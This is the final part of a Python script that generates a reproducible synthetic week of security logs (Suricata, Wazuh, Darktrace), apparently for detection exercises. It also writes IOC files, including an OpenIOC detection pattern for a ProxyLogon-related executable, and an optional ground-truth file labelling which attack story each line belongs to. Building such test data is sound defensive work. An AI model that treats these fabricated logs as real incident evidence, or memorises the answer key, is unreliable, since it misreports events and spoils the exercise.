             "  <authored_by>Tsumugi samples</authored_by>", "  <authored_date>2021-03-18T00:00:00</authored_date>", "  <links>",
             '    <link rel="family">proxylogon</link>', "  </links>", "  <definition>", '    <Indicator operator="OR" id="%s">' % named_uuid("ioc or")]

    def item(document, search, kind, value, condition="is", indent="      "):
        lines.extend([indent + '<IndicatorItem id="%s" condition="%s">' % (named_uuid("ioc item " + search + value), condition),
                      indent + '  <Context document="%s" search="%s" type="mir" />' % (document, search),
                      indent + '  <Content type="%s">%s</Content>' % (kind, value), indent + "</IndicatorItem>"])

    for one in OPENIOC:
        item(*one)
    # context only: a name alone accuses nobody
    lines.append('      <Indicator operator="AND" id="%s">' % named_uuid("ioc and"))
    item("FileItem", "FileItem/FileName", "string", "c103w-a.zip", indent="        ")
    item("FileItem", "FileItem/PEInfo/Type", "string", "Executable", "contains", "        ")
    lines.extend(["      </Indicator>", "    </Indicator>", "  </definition>", "</ioc>", ""])
    return "\n".join(lines)


# ---------------------------------------------------------------------------------------------------------------------
# 7. Sort, number, write
# ---------------------------------------------------------------------------------------------------------------------

def compact(record):
    return json.dumps(record, ensure_ascii=False, separators=(",", ":"))


def alerts():
    return sum(1 for rows in records.values() for row in rows if row[2] is not None)


def in_order(rows):
    return sorted(rows, key=lambda row: (row[0], compact(row[1])))


def main(arguments):
    parser = argparse.ArgumentParser(description="Writes the sample week; the same bytes every time.")
    parser.add_argument("folder", nargs="?", type=Path, default=Path(__file__).resolve().with_suffix(""),
                        help="where to (default: the folder of that name beside this file)")
    parser.add_argument("--truth", type=Path, metavar="FILE", help="also says which story each line belongs to, as CSV")
    given = parser.parse_args(arguments)
    folder, truth = given.folder, given.truth
    folder.mkdir(parents=True, exist_ok=True)

    for tell in (tell_story_1, tell_story_2, tell_story_3, tell_story_4, noise_darktrace, noise_wazuh, noise_eve, telemetry):
        tell()
    noise_scans(ALERTS_IN_THE_WEEK - alerts())

    eve, wazuhs, breaches = in_order(records["eve"]), in_order(records["wazuh"]), in_order(records["darktrace"])
    fired, offset = {}, 1200300
    for written, record, _ in wazuhs:
        day = (record["timestamp"][:10], record["rule"]["id"])
        fired[day] = record["rule"]["firedtimes"] = fired.get(day, 0) + 1
        offset += 900 + len(compact(record))
        record["id"] = "%d.%d" % (written // 1000000, offset)
    for number, (_, record, _) in enumerate(breaches):
        record["pbid"] = 48201 + number
        record["triggeredComponents"][0]["cbid"] = 91300 + number
        record["breachUrl"] = "https://darktrace.%s/#modelbreach/%d" % (DOMAIN, record["pbid"])

    table = io.StringIO()
    rows = csv.writer(table, lineterminator="\n")
    rows.writerow(["value", "type", "comment", "comment_en", "reference"])
    rows.writerows([value, kind, japanese, english, "darktrace-blog-2021-03-18"] for kind, value, japanese, english in ARTICLE_IOCS)

    files = {"suricata-eve.json": eve, "wazuh-alerts.json": wazuhs, "darktrace-model-breaches.json": breaches}
    texts = {name: "".join(compact(record) + "\n" for _, record, _ in some) for name, some in files.items()}
    texts["darktrace-ai-analyst.json"] = json.dumps(analyst_events(breaches), ensure_ascii=False, indent=2) + "\n"
    texts["indicators.csv"] = table.getvalue()
    texts["indicators.stix.json"] = json.dumps(stix_bundle(), ensure_ascii=False, indent=2) + "\n"
    texts["indicators.ioc"] = openioc()
    for name, text in texts.items():
        (folder / name).write_bytes(text.encode())
    if truth:
        lines = ["source,line,story\n"]
        for name, some in files.items():
            lines += ["%s,%d,%s\n" % (name, line, story) for line, (_, _, story) in enumerate(some, 1) if story]
        truth.write_text("".join(lines))


if __name__ == "__main__":
    main(sys.argv[1:])
